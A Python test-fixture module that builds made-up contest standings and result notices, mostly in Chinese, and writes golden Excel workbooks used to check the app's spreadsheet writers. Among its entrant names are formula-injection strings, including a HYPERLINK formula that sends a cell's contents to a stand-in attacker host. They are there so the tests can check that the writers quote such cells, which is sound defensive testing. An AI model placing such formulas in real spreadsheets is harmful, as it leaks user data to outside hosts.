"""Made-up standings and result notices of any length, built as records (no database), and
the workbooks the Excel writers make of them: what tests/reports/test_excel_rows.py holds
against the files kept in tests/reports/golden/, and what the standings benchmark times.

The rows carry what the writers treat specially: ties, totals with more decimals than the
event shows, a negative total, missing part and round totals, no award, no draw code, and
names and units that a spreadsheet would run as formulas.

``python -m tests.reports.excel_cases`` writes the golden files anew. Do that only when
what the files should hold changes on purpose (a new column, another translation), and
say so in the commit: the golden files are the proof that a rewrite changed nothing.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

from contest_desk.domain.aggregation import AggregationRule
from contest_desk.domain.contest import EventMode
from contest_desk.domain.records.contests import (
    EntryInfo,
    EventInfo,
    EventSettings,
    PartInfo,
    RoundInfo,
    StandingRow,
    StandingsTable,
)
from contest_desk.domain.records.results import ResultsState
from contest_desk.i18n import speaking
from contest_desk.reports.result_notice import Notice, standings_notice, write_notice_excel
from contest_desk.reports.standings_excel import write_standings_excel

GOLDEN = Path(__file__).parent / "golden"
DAY = dt.date(2026, 5, 20)
PARTS = (PartInfo(1, "理论", Decimal("0.3")), PartInfo(2, "实操", Decimal("0.7")))
ROUNDS = (RoundInfo(1, 1, "初赛", Decimal("0.4")), RoundInfo(2, 2, "决赛", Decimal("0.6")))
SURNAMES, GIVEN = "王李张刘陈杨黄赵吴周", "建国明伟洋丽军勇静磊强"
# Names and units from a roster that a spreadsheet would run (cells.py quotes them).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+86 138 0000",
    "-张三",
    "@SUM(A1)",
    " =1+1",
    "\t王五",
)


def _name(n: int) -> str:
    if n % 17 == 5:
        return FORMULAS[n // 17 % len(FORMULAS)]
    return SURNAMES[n % 10] + GIVEN[n % 11] + GIVEN[n // 11 % 11]


def _row(n: int, rank: int, coded: bool) -> StandingRow:
    """Entry ``n`` (from 0): every 11th lacks a part's total, every 13th a round's."""
    total = Decimal(9_000 - n * 3) / 100 + (Decimal("0.005") if n % 4 == 1 else 0)
    if n % 97 == 96:
        total = Decimal("-1.50")  # deductions past the points
    parts = {"理论": total - 2, "实操": total + Decimal("1.125")}
    if n % 11 == 3:
        del parts["实操"]
    rounds = {1: total - 1, 2: total + 1}
    if n % 13 == 7:
        del rounds[2]
    award = ("一等奖", "二等奖", "三等奖")[n % 3] if n % 5 else None
    entry = EntryInfo(
        id=n + 1,
        label=_name(n),
        unit="=1+1" if n % 19 == 2 else f"采油{n % 5 + 1}区/采油{n % 3 + 1}班",
        key=f"2601{n:04}",
        code=f"A{n + 1:03}" if coded and n % 23 else None,
        person_id=n + 1,
        team_id=None,
    )
    missing = (n % 11 == 3) + (n % 13 == 7)
    return StandingRow(
        entry_id=entry.id,
        rank=rank,
        total=total,
        round_totals=rounds,
        part_totals=parts,
        tie_values=(),
        award=award,
        complete=not missing,
        missing=missing,
        entry=entry,
    )


def standings_table(
    entries: int,
    round_number: int | None = None,
    places: int = 2,
    coded: bool = True,
    final: bool = False,
) -> StandingsTable:
    """``entries`` rows ranked 1, 2, 2, 4…: every 7th entry ties with the one before."""
    rows, rank = [], 0
    for n in range(entries):
        rank = rank if n % 7 == 6 else n + 1
        rows.append(_row(n, rank, coded))
    event = EventInfo(
        id=1,
        contest_id=1,
        name="采油工技能比武",
        mode=EventMode.INDIVIDUAL,
        settings=EventSettings(AggregationRule(), places=places),
        parts=PARTS,
        rounds=ROUNDS,
    )
    return StandingsTable(event, round_number, tuple(rows), final)


def board_like_notice(entries: int) -> Notice:
    """A notice made by hand: a place left empty off the board, ratings with a decimal,
    text in a column of numbers, a signed number, the state and the audit anchor lines."""
    rows = tuple(
        (
            "" if n % 9 == 8 else str(n + 1),
            _name(n),
            f"采油{n % 5 + 1}区",
            ("缺考", "-3.50", "+2", f"{1500 + n % 300}.{n % 10}")[n % 4],
            str(n % 6),
            ("擂主", "在擂", "淘汰")[n % 3],
        )
        for n in range(entries)
    )
    header = ("名次", "姓名", "单位", "积分", "守擂次数", "状态")
    return Notice(
        "采油工绝活擂台 2026年5月",
        header,
        rows,
        "采油厂工会",
        DAY,
        7,
        frozenset({0, 3, 4}),
        anchor="1234:abcdef012345",
        state="成绩状态：暂定",
        provisional=True,
    )


def write_cases(folder: Path, entries: int = 300) -> dict[str, Path]:
    """The representative workbooks, by name, written into ``folder`` in Chinese."""
    with speaking("zh_CN"):
        event = standings_table(entries)
        round_two = standings_table(
            entries * 2 // 3, round_number=2, places=1, coded=False, final=True
        )
        provisional = ResultsState(final=False, locked_at=None, open_rounds=("决赛",))
        notices = [
            standings_notice(event, "2026年采油厂职工技能比武", "采油厂工会", DAY),
            standings_notice(round_two, "2026年采油厂职工技能比武", "采油厂工会", DAY, 5),
            standings_notice(event, "竞赛", "工会", DAY, state=provisional),
            board_like_notice(entries),
        ]
        return {
            "standings_event.xlsx": write_standings_excel(folder / "standings_event.xlsx", event),
            "standings_round.xlsx": write_standings_excel(
                folder / "standings_round.xlsx", round_two
            ),
            "notices.xlsx": write_notice_excel(folder / "notices.xlsx", notices),
        }


if __name__ == "__main__":
    GOLDEN.mkdir(exist_ok=True)
    for path in write_cases(GOLDEN).values():
        print(f"wrote {path} ({path.stat().st_size:,} bytes)")
